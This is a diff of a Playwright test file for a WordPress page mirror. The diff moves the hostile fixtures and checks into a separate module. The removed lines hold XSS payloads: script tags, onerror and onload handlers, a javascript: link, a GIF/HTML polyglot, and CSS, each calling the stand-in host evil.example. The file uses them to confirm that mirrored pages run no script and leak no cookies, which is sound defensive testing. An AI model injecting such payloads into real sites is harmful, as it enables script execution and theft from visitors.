@@ -1,44 +1,29 @@
 /** Mirror pages of a real WordPress: asked over HTTP, and opened in Chromium by its logged-in admin. */
 import assert from 'node:assert/strict'
-import { createHash } from 'node:crypto'
 import { existsSync } from 'node:fs'
 import { type TestContext, test } from 'node:test'
-import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core'
+import { type Browser, chromium, type Page } from 'playwright-core'
 import { hostilePages } from '../mirror/hostile-pages.ts'
-import { pictureOf } from '../sites/writing.ts'
 import { shoot } from './admin.ts'
+import {
+  assets,
+  base,
+  first,
+  front,
+  harmless,
+  hashOf,
+  items,
+  picture,
+  polyglot,
+  run,
+  unharmed,
+  watched,
+} from './hostile-blog.ts'
 import { hasPhp } from './php.ts'
 import { pageCache, ReaderWorld } from './reader-world.ts'
 
 const chromiumPath = '/usr/bin/chromium'
 const skip = hasPhp() && existsSync(chromiumPath) ? false : 'php or chromium is not installed'
-const run = "(window.__ran=1,fetch('https://evil.example/ran'))"
-const polyglot = Buffer.from(`GIF89a/*<script>${run}</script><img src=x onerror="${run}">*/`, 'latin1')
-const picture = Buffer.from(pictureOf(1))
-const hashOf = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')
-const base = '/dgos/m/ana.example/'
-
-const front = `<!doctype html><html lang="en"><head><link rel="stylesheet" href="/style.css"><script>${run}</script></head>
-<body onload="${run}"><h1>Garden</h1><img id="photo" src="/photo.png"><img src="/trap.gif"><a id="first" href="/first/">First</a><a id="trap" href="javascript:${run}">x</a></body></html>`
-
-const assets = [
-  {
-    url: 'https://ana.example/style.css',
-    bytes: 'h1{color:rgb(1, 2, 3);background:url(https://evil.example/css)}',
-    type: 'text/css',
-  },
-  { url: 'https://ana.example/photo.png', bytes: picture, type: 'image/png' },
-  { url: 'https://ana.example/trap.gif', bytes: polyglot, type: 'image/gif' },
-]
-const items = [
-  {
-    id: 'https://ana.example/?p=1',
-    url: 'https://ana.example/first/',
-    path: '/first/',
-    title: `<img src=x onerror="${run}">`,
-  },
-]
-const first = { path: '/first/', html: '<article><h1>First</h1></article>' }
 /** A snapshot holds at most 16 pages. */
 const round = 16
 
@@ -145,44 +130,6 @@ async function control(browser: Browser, url: string): Promise<void> {
   await assert.rejects(unharmed(page, 'as it was'), assert.AssertionError)
   await context.close()
   assert.ok(elsewhere.length > 0)
-}
-
-/** Requests that no page here may make, as they come. */
-async function watched(context: BrowserContext): Promise<string[]> {
-  const elsewhere: string[] = []
-  await context.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
-    elsewhere.push(`${route.request().frame().url()} asked for ${route.request().url()}`)
-    return route.abort()
-  })
-  return elsewhere
-}
-
-async function harmless(page: Page, url: string): Promise<void> {
-  const answer = await page.goto(url, { waitUntil: 'load' })
-  assert.ok([200, 404].includes(answer!.status()) && (answer!.status() === 200 || url.includes('/blob/')), url)
-  await unharmed(page, url)
-}
-
-/** Touches everything in the page and its frames: nothing ran, and no frame sees a cookie. */
-async function unharmed(page: Page, url: string): Promise<void> {
-  for (const frame of page.frames()) {
-    const { ran, cookie } = await frame.evaluate(() => {
-      for (const one of document.querySelectorAll('*')) {
-        for (const kind of ['mouseover', 'focus', 'animationstart', 'toggle', 'error', 'load', 'begin'])
-          one.dispatchEvent(new Event(kind))
-        if (/^javascript:/i.test((one as HTMLAnchorElement).href ?? '')) (one as HTMLElement).click()
-      }
-      let seen = ''
-      try {
-        seen = document.cookie
-      } catch {
-        seen = 'denied'
-      }
-      return { ran: (window as { __ran?: number }).__ran, cookie: seen }
-    })
-    assert.equal(ran, undefined, url)
-    if (frame !== page.mainFrame()) assert.equal(cookie, 'denied', url)
-  }
 }
 
 /** What should work does: looks, pictures and links of the copy in its frame. */
